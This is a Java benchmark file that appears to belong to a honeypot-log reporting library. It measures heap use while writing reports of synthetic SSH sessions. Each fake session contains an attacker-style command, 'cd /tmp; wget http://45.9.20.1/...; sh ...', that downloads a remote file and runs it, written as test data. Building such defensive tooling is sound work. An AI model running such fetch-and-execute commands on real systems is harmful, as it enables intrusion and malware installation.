package io.github.cowriekit.benchmarks;

import io.github.cowriekit.model.Command;
import io.github.cowriekit.model.Download;
import io.github.cowriekit.model.Endpoint;
import io.github.cowriekit.model.FileOrigin;
import io.github.cowriekit.model.Login;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.model.SessionEnd;
import io.github.cowriekit.model.intel.EnrichedSession;
import io.github.cowriekit.report.ReportFormat;
import io.github.cowriekit.report.Reports;
import java.io.OutputStream;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.function.LongConsumer;
import java.util.stream.LongStream;
import java.util.stream.Stream;

/**
 * Prints the largest live heap in each third of a report of many sessions, to be run with a small {@code -Xmx}.
 *
 * <p>Arguments: number of sessions, names of formats; both optional.
 */
public final class ReportHeap {
    /** The formats that hold nothing of a session. */
    static final List<String> FLAT = List.of("ndjson", "csv", "ecs", "diary", "legacy");

    private static final int LOOKS = 30;
    private static final Instant START = Instant.parse("2023-05-24T00:00:00Z");

    private ReportHeap() {}

    /** Measures. */
    public static void main(String[] args) {
        long sessions = args.length > 0 ? (long) Double.parseDouble(args[0]) : 1_000_000;
        List<String> formats = args.length > 1 ? List.of(args).subList(1, args.length) : FLAT;
        System.out.printf(Locale.ROOT, "-Xmx%d MB%n", Runtime.getRuntime().maxMemory() >> 20);
        for (String format : formats) {
            print(Reports.format(format), sessions);
        }
    }

    private static void print(ReportFormat format, long sessions) {
        long[] thirds = new long[3];
        write(format, sessions, sessions, position -> {
            long part = position * LOOKS / sessions;
            if (position > 0 && part != (position - 1) * LOOKS / sessions) {
                int third = (int) (part * 3 / LOOKS);
                thirds[third] = Math.max(thirds[third], LiveHeap.bytes());
            }
        });
        System.out.printf(
                Locale.ROOT,
                "%-8s live heap by thirds: %.1f %.1f %.1f MB, last third / first third %.2f%n",
                format.name(),
                thirds[0] / 1e6,
                thirds[1] / 1e6,
                thirds[2] / 1e6,
                (double) thirds[2] / thirds[0]);
    }

    /**
     * Writes a report of so many sessions from so many addresses to nowhere; the listener hears the position of each session
     * before it is made.
     */
    static void write(ReportFormat format, long sessions, long addresses, LongConsumer listener) {
        Stream<EnrichedSession> stream = LongStream.range(0, sessions)
                .peek(listener)
                .mapToObj(number -> session(number, number % addresses))
                .map(EnrichedSession::of);
        format.write(stream, OutputStream.nullOutputStream());
    }

    /** Returns a session with an id, a password and a URL of its own. */
    private static Session session(long number, long address) {
        Instant at = START.plusSeconds(number);
        List<Command> commands = new ArrayList<>();
        for (int i = 0; i < 1 + number % 10; i++) {
            commands.add(
                    new Command(at.plusSeconds(i), "cd /tmp; wget http://45.9.20.1/" + i + "; sh " + i, false, null));
        }
        return Session.builder(String.format(Locale.ROOT, "%012x", number), SessionEnd.CLOSED)
                .sensor("hp")
                .protocol("ssh")
                .source(new Endpoint(
                        "45." + (address >> 16 & 255) + "." + (address >> 8 & 255) + "." + (address & 255), 1))
                .startedAt(at)
                .endedAt(at.plusSeconds(12))
                .duration(Duration.ofSeconds(12))
                .logins(List.of(Login.builder()
                        .at(at)
                        .username("root")
                        .password("p" + number)
                        .success(true)
                        .build()))
                .commands(commands)
                .downloads(List.of(Download.builder(FileOrigin.URL)
                        .at(at)
                        .url("http://45.9.20.1/" + number)
                        .host("45.9.20.1")
                        .sha256(String.format(Locale.ROOT, "%064x", number % 1_000))
                        .build()))
                .build();
    }
}
